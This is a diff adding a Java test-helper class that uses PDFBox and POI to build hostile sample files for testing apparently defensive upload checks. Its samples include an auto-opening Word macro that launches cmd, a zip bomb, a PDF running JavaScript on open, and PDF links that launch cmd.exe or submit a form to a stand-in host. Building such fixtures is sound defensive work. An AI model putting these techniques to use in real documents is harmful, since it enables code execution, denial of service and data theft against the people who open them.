@@ -1,0 +1,200 @@
+package vn.congkhai.testing;
+
+import org.apache.pdfbox.pdmodel.PDDocument;
+import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
+import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
+import org.apache.pdfbox.pdmodel.PDPage;
+import org.apache.pdfbox.pdmodel.common.PDRectangle;
+import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
+import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
+import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
+import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
+import org.apache.pdfbox.pdmodel.interactive.action.PDAction;
+import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
+import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
+import org.apache.pdfbox.pdmodel.interactive.action.PDActionSubmitForm;
+import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
+import org.apache.poi.poifs.crypt.EncryptionInfo;
+import org.apache.poi.poifs.crypt.EncryptionMode;
+import org.apache.poi.poifs.crypt.Encryptor;
+import org.apache.poi.poifs.filesystem.POIFSFileSystem;
+import org.apache.poi.xssf.usermodel.XSSFWorkbook;
+
+import java.io.ByteArrayInputStream;
+import java.io.IOException;
+import java.io.InputStream;
+import java.io.OutputStream;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.Enumeration;
+import java.util.LinkedHashMap;
+import java.util.List;
+import java.util.Map;
+import java.util.function.UnaryOperator;
+import java.util.zip.ZipEntry;
+import java.util.zip.ZipFile;
+import java.util.zip.ZipOutputStream;
+
+/**
+ * Hostile files as they reach a commune: built here with the libraries that make real ones (PDFBox, POI), so that
+ * the checks are tried on what Word, Excel and PDF readers would open, not on hand-written bytes.
+ */
+public final class HostileFiles {
+
+    private static final String MACRO_DOCUMENT = "application/vnd.ms-word.document.macroEnabled.main+xml";
+    private static final String WORD_DOCUMENT =
+            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
+
+    private HostileFiles() {
+    }
+
+    /** A list of people with their ID numbers and birth dates, saved by Excel, under {@code file}'s name. */
+    public static Path spreadsheet(Path file) throws IOException {
+        try (XSSFWorkbook book = new XSSFWorkbook(); OutputStream out = Files.newOutputStream(file)) {
+            var sheet = book.createSheet("Danh sách");
+            List<List<String>> rows = List.of(List.of("Họ tên", "Số CCCD", "Ngày sinh"),
+                    List.of("Nguyễn Văn An", "019075001234", "12/03/1975"));
+            for (int r = 0; r < rows.size(); r++) {
+                var row = sheet.createRow(r);
+                for (int c = 0; c < rows.get(r).size(); c++) {
+                    row.createCell(c).setCellValue(rows.get(r).get(c));
+                }
+            }
+            book.write(out);
+        }
+        return file;
+    }
+
+    /** {@code docx} as Word saves it with macros (.docm): a VBA project part and the macro-enabled content type. */
+    public static Path withMacros(Path docx, Path out) throws IOException {
+        Map<String, byte[]> added = new LinkedHashMap<>();
+        added.put("word/vbaProject.bin", "Attribute VB_Name = \"ThisDocument\"\nSub AutoOpen()\nShell \"cmd\"\nEnd Sub"
+                .getBytes(StandardCharsets.US_ASCII));
+        return rewrite(docx, out, "[Content_Types].xml", types -> types.replace(WORD_DOCUMENT, MACRO_DOCUMENT)
+                .replace("</Types>", "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>"
+                        + "</Types>"), added);
+    }
+
+    /** {@code docx} encrypted with a password as Word does it (agile encryption in an OLE2 container). */
+    public static Path encrypted(Path docx, Path out, String password) throws Exception {
+        try (POIFSFileSystem fs = new POIFSFileSystem()) {
+            Encryptor encryptor = new EncryptionInfo(EncryptionMode.agile).getEncryptor();
+            encryptor.confirmPassword(password);
+            try (OutputStream data = encryptor.getDataStream(fs)) {
+                Files.copy(docx, data);
+            }
+            try (OutputStream file = Files.newOutputStream(out)) {
+                fs.writeFilesystem(file);
+            }
+        }
+        return out;
+    }
+
+    /** {@code docx} whose body part is padded with {@code megabytes} of zeros: a few kilobytes that unpack huge. */
+    public static Path zipBomb(Path docx, Path out, int megabytes) throws IOException {
+        byte[] zeros = new byte[megabytes * 1024 * 1024];
+        return rewrite(docx, out, "word/document.xml", xml -> xml, Map.of("word/media/padding.bin", zeros));
+    }
+
+    /** {@code docx} with {@code count} more (empty) parts than any document has. */
+    public static Path manyParts(Path docx, Path out, int count) throws IOException {
+        Map<String, byte[]> added = new LinkedHashMap<>();
+        for (int i = 0; i < count; i++) {
+            added.put("word/media/p" + i + ".bin", new byte[0]);
+        }
+        return rewrite(docx, out, "word/document.xml", xml -> xml, added);
+    }
+
+    /** A one-page PDF that runs JavaScript when opened (the catalog's /OpenAction). */
+    public static Path pdfWithOpenActionJavaScript(Path out) throws IOException {
+        try (PDDocument pdf = new PDDocument()) {
+            pdf.addPage(new PDPage(PDRectangle.A4));
+            pdf.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.launchURL('http://x.invalid/', true);"));
+            pdf.save(out.toFile());
+        }
+        return out;
+    }
+
+    /** A one-page PDF carrying a spreadsheet as an embedded file (the /EmbeddedFiles name tree). */
+    public static Path pdfWithEmbeddedFile(Path out) throws IOException {
+        try (PDDocument pdf = new PDDocument()) {
+            pdf.addPage(new PDPage(PDRectangle.A4));
+            PDEmbeddedFile file = new PDEmbeddedFile(pdf, new ByteArrayInputStream(
+                    "ho_ten,cccd\nNguyễn Văn An,019075001234\n".getBytes(StandardCharsets.UTF_8)));
+            PDComplexFileSpecification spec = new PDComplexFileSpecification();
+            spec.setFile("danh-sach.csv");
+            spec.setEmbeddedFile(file);
+            PDEmbeddedFilesNameTreeNode tree = new PDEmbeddedFilesNameTreeNode();
+            tree.setNames(Map.of("danh-sach.csv", spec));
+            PDDocumentNameDictionary names = new PDDocumentNameDictionary(pdf.getDocumentCatalog());
+            names.setEmbeddedFiles(tree);
+            pdf.getDocumentCatalog().setNames(names);
+            pdf.save(out.toFile());
+        }
+        return out;
+    }
+
+    /** A one-page PDF with two links: one launches a program, the other sends a form away. */
+    public static Path pdfWithLaunchAndSubmit(Path out) throws IOException {
+        PDActionLaunch launch = new PDActionLaunch();
+        launch.setFile(new PDComplexFileSpecification());
+        launch.getFile().setFile("cmd.exe");
+        PDActionSubmitForm submit = new PDActionSubmitForm();
+        submit.getCOSObject().setString("F", "http://x.invalid/thu");
+        return pdfWithLinks(out, launch, submit);
+    }
+
+    /** A one-page PDF that opens only with a password. */
+    public static Path pdfWithPassword(Path out) throws IOException {
+        try (PDDocument pdf = new PDDocument()) {
+            pdf.addPage(new PDPage(PDRectangle.A4));
+            StandardProtectionPolicy policy = new StandardProtectionPolicy("chu", "matkhau", new AccessPermission());
+            policy.setEncryptionKeyLength(128);
+            pdf.protect(policy);
+            pdf.save(out.toFile());
+        }
+        return out;
+    }
+
+    private static Path pdfWithLinks(Path out, PDAction... actions) throws IOException {
+        try (PDDocument pdf = new PDDocument()) {
+            PDPage page = new PDPage(PDRectangle.A4);
+            pdf.addPage(page);
+            for (PDAction action : actions) {
+                PDAnnotationLink link = new PDAnnotationLink();
+                link.setRectangle(new PDRectangle(50, 700, 200, 20));
+                link.setAction(action);
+                page.getAnnotations().add(link);
+            }
+            pdf.save(out.toFile());
+        }
+        return out;
+    }
+
+    /** A copy of the zip {@code from} with one text part changed and parts added. */
+    private static Path rewrite(Path from, Path to, String part, UnaryOperator<String> change, Map<String, byte[]> added)
+            throws IOException {
+        try (ZipFile in = new ZipFile(from.toFile()); ZipOutputStream out = new ZipOutputStream(Files.newOutputStream(to))) {
+            for (Enumeration<? extends ZipEntry> e = in.entries(); e.hasMoreElements(); ) {
+                ZipEntry entry = e.nextElement();
+                byte[] bytes;
+                try (InputStream data = in.getInputStream(entry)) {
+                    bytes = data.readAllBytes();
+                }
+                if (entry.getName().equals(part)) {
+                    bytes = change.apply(new String(bytes, StandardCharsets.UTF_8)).getBytes(StandardCharsets.UTF_8);
+                }
+                out.putNextEntry(new ZipEntry(entry.getName()));
+                out.write(bytes);
+                out.closeEntry();
+            }
+            for (Map.Entry<String, byte[]> extra : added.entrySet()) {
+                out.putNextEntry(new ZipEntry(extra.getKey()));
+                out.write(extra.getValue());
+                out.closeEntry();
+            }
+        }
+        return to;
+    }
+}
